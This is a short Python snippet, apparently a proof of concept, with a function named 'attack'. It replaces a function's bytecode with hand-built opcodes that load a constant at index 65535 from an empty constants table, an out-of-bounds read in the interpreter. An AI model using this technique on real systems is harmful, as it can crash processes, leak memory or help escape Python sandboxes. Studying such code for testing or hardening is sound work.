# Makes bytecode that reads beyond its constants.
import types


def attack(n):
    code = attack.__code__
    loads = bytes([151, 0, 100, 255, 144, 255, 100, 255, 83, 0])
    made = code.replace(co_code=loads, co_consts=())
    return types.FunctionType(made, {})(n)
